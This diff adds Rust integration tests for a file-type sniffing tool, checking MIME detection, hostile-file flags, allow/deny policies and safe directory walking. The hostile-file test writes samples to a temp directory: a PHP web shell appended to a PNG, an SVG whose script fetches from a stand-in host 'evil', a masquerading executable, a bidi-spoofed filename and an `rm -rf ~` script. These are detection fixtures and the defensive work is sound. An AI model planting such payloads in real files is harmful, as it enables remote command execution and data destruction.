@@ -1,0 +1,402 @@
+//! `binkit sniff` on real samples of 60 types (fixtures/sniff/samples,
+//! made by fixtures/sniff/make.py) against `file --mime-type`, on hostile
+//! files, and on trees with things that must not be opened.
+
+use std::fs;
+use std::path::{Path, PathBuf};
+
+use binkit::sniff::names::{canonical, same_format};
+use serde_json::Value;
+
+use crate::support::{binkit, fixture, reference};
+
+fn samples() -> PathBuf {
+    fixture("sniff/samples")
+}
+
+/// `binkit sniff --json` on `args`, run in `dir`: (status, reports).
+fn sniff_json(dir: &Path, args: &[&str]) -> (i32, Vec<Value>) {
+    let out = binkit()
+        .current_dir(dir)
+        .args(["sniff", "--json", "-q"])
+        .args(args)
+        .output()
+        .unwrap();
+    let reports: Value = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)));
+    (
+        out.status.code().unwrap(),
+        reports.as_array().unwrap().clone(),
+    )
+}
+
+fn flags(report: &Value) -> Vec<&str> {
+    report["flags"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f.as_str().unwrap())
+        .collect()
+}
+
+/// Files whose content runs: programs, and scripts with `#!`.
+const EXECUTABLE_SAMPLES: [&str; 5] = [
+    "install.sh",
+    "program.elf",
+    "program.exe",
+    "tool.pl",
+    "tool.py",
+];
+
+#[test]
+fn every_sample_is_what_file_says_and_agrees_with_its_name() {
+    let Some(file) = reference("file") else {
+        return;
+    };
+    let dir = samples();
+    let mut names: Vec<String> = fs::read_dir(&dir)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().into_string().unwrap())
+        .collect();
+    names.sort();
+    let (status, reports) = sniff_json(&dir, &["-r", "."]);
+    assert_eq!(status, 0);
+    assert_eq!(reports.len(), names.len());
+    let mut types = std::collections::BTreeSet::new();
+    for (report, name) in reports.iter().zip(&names) {
+        assert_eq!(report["path"], format!("./{name}"));
+        let ours = report["mime"].as_str().unwrap();
+        types.insert(canonical(ours).to_string());
+        let theirs = std::process::Command::new(&file)
+            .args(["--mime-type", "-b", name])
+            .current_dir(&dir)
+            .output()
+            .unwrap();
+        let theirs = String::from_utf8(theirs.stdout).unwrap();
+        let theirs = theirs.trim();
+        // `file` has no name for a few formats that infer knows.
+        if theirs != "application/octet-stream" {
+            assert!(
+                same_format(ours, theirs),
+                "{name}: {ours} vs file's {theirs}"
+            );
+        }
+        assert_eq!(report["verdict"], "ok", "{name}");
+        assert_eq!(report["pass"], true, "{name}");
+        let expected: Vec<&str> = if EXECUTABLE_SAMPLES.contains(&name.as_str()) {
+            vec!["executable"]
+        } else {
+            vec![]
+        };
+        assert_eq!(flags(report), expected, "{name}");
+        assert_eq!(
+            report["size"].as_u64(),
+            Some(fs::metadata(dir.join(name)).unwrap().len())
+        );
+    }
+    assert!(
+        types.len() >= 40,
+        "{} distinct types: {types:?}",
+        types.len()
+    );
+}
+
+/// Writes `bytes` as `name` in `dir`.
+fn put(dir: &Path, name: &str, bytes: &[u8]) {
+    fs::write(dir.join(name), bytes).unwrap();
+}
+
+fn sample(name: &str) -> Vec<u8> {
+    fs::read(samples().join(name)).unwrap()
+}
+
+#[test]
+fn hostile_files_are_flagged_with_reasons() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    put(d, "holiday.jpg", &sample("program.elf"));
+    put(d, "photo.png", &sample("picture.jpg"));
+    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('//evil')</script></svg>";
+    put(d, "logo.svg", svg);
+    put(
+        d,
+        "badge.svg",
+        b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"x()\"/>",
+    );
+    put(
+        d,
+        "polyglot.jpg",
+        &[sample("picture.jpg"), sample("archive.zip")].concat(),
+    );
+    put(
+        d,
+        "tail.png",
+        &[
+            sample("picture.png"),
+            b"<?php system($_GET[c]); ?>".to_vec(),
+        ]
+        .concat(),
+    );
+    put(d, "invoice\u{202E}fdp.exe", &sample("program.exe"));
+    put(d, "invoice.pdf.exe", &sample("program.exe"));
+    put(d, "report.txt", b"#!/bin/bash\nrm -rf ~\n");
+    // (name, verdict, flags, a reason that must be there)
+    let expected: [(&str, &str, &[&str], &str); 9] = [
+        (
+            "badge.svg",
+            "ok",
+            &["script"],
+            "SVG has an on... event handler attribute",
+        ),
+        (
+            "holiday.jpg",
+            "mismatch",
+            &["executable"],
+            "ELF executable content",
+        ),
+        (
+            "invoice.pdf.exe",
+            "ok",
+            &["double-extension", "executable"],
+            "name ends .pdf.exe: looks like .pdf, runs as .exe",
+        ),
+        (
+            "invoice\u{202E}fdp.exe",
+            "ok",
+            &["bidi-name", "executable"],
+            "name contains a Unicode bidirectional control character",
+        ),
+        (
+            "logo.svg",
+            "ok",
+            &["script"],
+            "SVG contains a <script> element",
+        ),
+        ("photo.png", "mismatch", &[], ""),
+        (
+            "polyglot.jpg",
+            "ok",
+            &["appended-data"],
+            "a ZIP archive after the end of the JPEG image",
+        ),
+        (
+            "report.txt",
+            "ok",
+            &["executable"],
+            "script with #!/bin/bash",
+        ),
+        (
+            "tail.png",
+            "ok",
+            &["appended-data"],
+            "script text after the end of the PNG image",
+        ),
+    ];
+    let (status, reports) = sniff_json(d, &["-r", "."]);
+    assert_eq!(status, 0, "no policy, no --check: nothing fails");
+    assert_eq!(reports.len(), expected.len());
+    for (report, (name, verdict, want_flags, reason)) in reports.iter().zip(expected) {
+        assert_eq!(report["path"], format!("./{name}"));
+        assert_eq!(report["verdict"], verdict, "{name}");
+        assert_eq!(flags(report), want_flags, "{name}");
+        let reasons = report["reasons"].as_array().unwrap();
+        assert!(
+            reason.is_empty() || reasons.iter().any(|r| r == reason),
+            "{name}: {reasons:?}"
+        );
+    }
+    // --check: any flag or mismatch fails; only failures are listed; exit 1.
+    let (status, failing) = sniff_json(d, &["--check", "-r", "."]);
+    assert_eq!(status, 1);
+    assert_eq!(failing.len(), expected.len());
+    assert!(failing.iter().all(|r| r["pass"] == false));
+    let renamed = &failing[1];
+    assert!(renamed["reasons"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|r| r == "content is application/x-executable, the name claims image/jpeg"));
+}
+
+#[test]
+fn policy_allows_denies_and_limits_size() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = dir.path();
+    for name in ["picture.png", "picture.gif", "picture.pdf", "program.exe"] {
+        put(d, name, &sample(name));
+    }
+    let pass = |args: &[&str]| -> Vec<bool> {
+        let (_, reports) = sniff_json(d, &[args, &["-r", "."]].concat());
+        reports
+            .iter()
+            .map(|r| r["pass"].as_bool().unwrap())
+            .collect()
+    };
+    // Walk order: picture.gif, picture.pdf, picture.png, program.exe.
+    assert_eq!(pass(&["--allow", "image/*"]), [true, false, true, false]);
+    assert_eq!(
+        pass(&["--allow", "image/png,application/pdf"]),
+        [false, true, true, false]
+    );
+    assert_eq!(
+        pass(&["--deny", "application/vnd.microsoft.portable-executable"]),
+        [true, true, true, false]
+    );
+    let gif_size = sample("picture.gif").len();
+    let limit = gif_size.to_string();
+    assert_eq!(pass(&["--max-size", &limit]), [true, false, false, false]);
+    let (status, _) = sniff_json(d, &["--allow", "*", "-r", "."]);
+    assert_eq!(status, 0);
+    let (status, reports) = sniff_json(d, &["--deny", "image/gif", "-r", "."]);
+    assert_eq!(status, 1);
+    assert_eq!(
+        reports[0]["reasons"],
+        serde_json::json!(["type image/gif is denied (image/gif)"])
+    );
+    // The field names CI scripts rely on, in every object.
+    let keys: Vec<&str> = reports[0]
+        .as_object()
+        .unwrap()
+        .keys()
+        .map(String::as_str)
+        .collect();
+    let mut want = [
+        "path", "size", "mime", "ext_mime", "verdict", "flags", "pass", "reasons",
+    ];
+    want.sort_unstable();
+    let mut keys = keys;
+    keys.sort_unstable();
+    assert_eq!(keys, want);
+    // --ndjson: the same objects, one per line.
+    let out = binkit()
+        .current_dir(d)
+        .args(["sniff", "--ndjson", "-r", "."])
+        .output()
+        .unwrap();
+    let lines: Vec<Value> = out
+        .stdout
+        .split(|&b| b == b'\n')
+        .filter(|l| !l.is_empty())
+        .map(|l| serde_json::from_slice(l).unwrap())
+        .collect();
+    assert_eq!(lines.len(), 4);
+    assert_eq!(
+        lines[3]["mime"],
+        "application/vnd.microsoft.portable-executable"
+    );
+    assert_eq!(
+        String::from_utf8(out.stderr).unwrap(),
+        "binkit sniff: 4 files, 4 ok, 0 mismatches, 1 flagged, 0 failed, 0 unreadable\n"
+    );
+}
+
+#[test]
+fn walks_skip_what_must_not_be_opened_and_go_on_after_errors() {
+    let root = tempfile::tempdir().unwrap();
+    let tree = root.path().join("tree");
+    fs::create_dir_all(tree.join("sub")).unwrap();
+    put(&tree, "a.png", &sample("picture.png"));
+    put(&tree.join("sub"), "b.json", &sample("data.json"));
+    // A FIFO would block a reader forever; a symlink is not followed
+    // without -L; a dangling one and a loop only matter with -L.
+    let fifo = tree.join("pipe");
+    assert!(std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap()
+        .success());
+    std::os::unix::fs::symlink(tree.join("a.png"), tree.join("link.png")).unwrap();
+    std::os::unix::fs::symlink(root.path().join("missing"), tree.join("dangling")).unwrap();
+    std::os::unix::fs::symlink(&tree, tree.join("sub/loop")).unwrap();
+
+    let (status, reports) = sniff_json(root.path(), &["-r", "tree"]);
+    assert_eq!(status, 0);
+    let paths: Vec<&str> = reports
+        .iter()
+        .map(|r| r["path"].as_str().unwrap())
+        .collect();
+    assert_eq!(paths, ["tree/a.png", "tree/sub/b.json"]);
+
+    // -L: the link is followed, the dangling one is an error (exit 2 at the
+    // end, after everything else was reported), the loop is survived.
+    let out = binkit()
+        .current_dir(root.path())
+        .args(["sniff", "--ndjson", "-L", "-r", "tree"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    let stdout = String::from_utf8(out.stdout).unwrap();
+    let paths: Vec<String> = stdout
+        .lines()
+        .map(|l| {
+            serde_json::from_str::<Value>(l).unwrap()["path"]
+                .as_str()
+                .unwrap()
+                .to_string()
+        })
+        .collect();
+    assert_eq!(paths, ["tree/a.png", "tree/link.png", "tree/sub/b.json"]);
+    let stderr = String::from_utf8(out.stderr).unwrap();
+    assert!(
+        stderr.contains("binkit sniff: tree/dangling: No such file or directory"),
+        "{stderr}"
+    );
+    assert!(
+        stderr.contains("tree/sub/loop: skipped, a symlink loop"),
+        "{stderr}"
+    );
+    assert!(stderr.ends_with("3 files, 3 ok, 0 mismatches, 0 flagged, 0 failed, 1 unreadable\n"));
+
+    // A file that cannot be read (even by root) is one error among others.
+    let out = binkit()
+        .current_dir(root.path())
+        .args(["sniff", "/proc/self/mem", "tree/a.png"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8(out.stdout)
+        .unwrap()
+        .starts_with("tree/a.png  image/png"));
+    assert!(String::from_utf8(out.stderr)
+        .unwrap()
+        .starts_with("binkit sniff: /proc/self/mem: "));
+    // A FIFO named on the command line is skipped, not opened.
+    binkit()
+        .current_dir(root.path())
+        .args(["sniff", "tree/pipe"])
+        .timeout(std::time::Duration::from_secs(10))
+        .assert()
+        .success()
+        .stdout("");
+}
+
+#[test]
+fn stdin_is_sniffed_and_teed_unchanged() {
+    let png = sample("picture.png");
+    let (status, reports) = {
+        let out = binkit()
+            .args(["sniff", "--json", "-"])
+            .write_stdin(png.clone())
+            .output()
+            .unwrap();
+        let reports: Value = serde_json::from_slice(&out.stdout).unwrap();
+        (out.status.code(), reports)
+    };
+    assert_eq!(status, Some(0));
+    assert_eq!(reports[0]["mime"], "image/png");
+    assert_eq!(reports[0]["path"], "-");
+    assert_eq!(reports[0]["size"], Value::Null);
+    // --tee: the bytes pass through unchanged; the report goes to stderr.
+    let big = [sample("program.elf"), vec![7; 300_000]].concat();
+    let out = binkit()
+        .args(["sniff", "--tee", "--ndjson", "--check"])
+        .write_stdin(big.clone())
+        .output()
+        .unwrap();
+    assert_eq!(out.stdout, big);
+    assert_eq!(out.status.code(), Some(1), "an executable fails --check");
+    let report: Value =
+        serde_json::from_slice(out.stderr.split(|&b| b == b'\n').next().unwrap()).unwrap();
+    assert_eq!(report["mime"], "application/x-executable");
+    assert_eq!(report["size"], big.len());
+}
